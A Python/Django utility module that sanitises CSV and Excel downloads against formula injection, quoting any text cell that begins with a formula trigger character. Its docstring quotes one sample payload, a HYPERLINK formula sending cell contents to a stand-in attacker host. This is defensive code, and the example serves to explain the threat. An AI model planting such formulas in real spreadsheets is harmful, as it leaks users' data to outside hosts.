"""Every CSV and Excel download goes through here, so no cell becomes a live formula.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula (CSV/formula injection): a course title such as
``=HYPERLINK("https://evil.example/?"&A1,"Click")`` would run when a manager opens the
export. Following OWASP's rule, such a text value is written with a single quote in front
(``'=HYPERLINK(...)``): the text stays readable and is shown, never evaluated.

Numbers stay numbers: an ``int``, ``float`` or ``Decimal`` is written as it is, and so is
text that is only a number (``-12.50``), so a negative amount is still a number in Excel.

Use :func:`csv_writer`, :func:`csv_response`, :func:`csv_streaming_response`,
:func:`xlsx_append` and :func:`xlsx_response`; never ``csv.writer`` or ``sheet.append``
directly (a test greps the project for them).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def spreadsheet_safe(value: Any) -> Any:
    """The value to write into a spreadsheet cell: text that a spreadsheet would read as a
    formula gets a leading single quote; numbers, dates and other text are unchanged."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_row(row: Iterable[Any]) -> list[Any]:
    return [spreadsheet_safe(value) for value in row]


class SafeCsvWriter:
    """``csv.writer`` whose rows are made safe for spreadsheet programs first."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(["" if v is None else v for v in spreadsheet_row(row)])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(out, **kwargs)


def _attachment(response: HttpResponse | StreamingHttpResponse, filename: str) -> None:
    response["Content-Disposition"] = f'attachment; filename="{filename}"'


def csv_text(header: Iterable[Any] | None, rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    writer = csv_writer(out)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def csv_response(
    filename: str,
    header: Iterable[Any] | None,
    rows: Iterable[Iterable[Any]],
    *,
    byte_order_mark: bool = False,
) -> HttpResponse:
    """A CSV download. ``byte_order_mark`` helps Excel read the pound sign as UTF-8."""
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    _attachment(response, filename)
    if byte_order_mark:
        response.write("\ufeff")
    writer = csv_writer(response)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return response


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_streaming_response(
    filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]
) -> StreamingHttpResponse:
    """A CSV download written row by row, for exports too long to hold in memory."""
    writer = csv_writer(_Echo())

    def lines():
        yield writer.writerow(header)
        for row in rows:
            yield writer.writerow(row)

    response = StreamingHttpResponse(lines(), content_type=CSV_CONTENT_TYPE)
    _attachment(response, filename)
    return response


def xlsx_append(sheet, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every text cell made safe."""
    sheet.append(spreadsheet_row(row))


def xlsx_bytes(workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_response(workbook, filename: str) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(workbook), content_type=XLSX_CONTENT_TYPE)
    _attachment(response, filename)
    return response
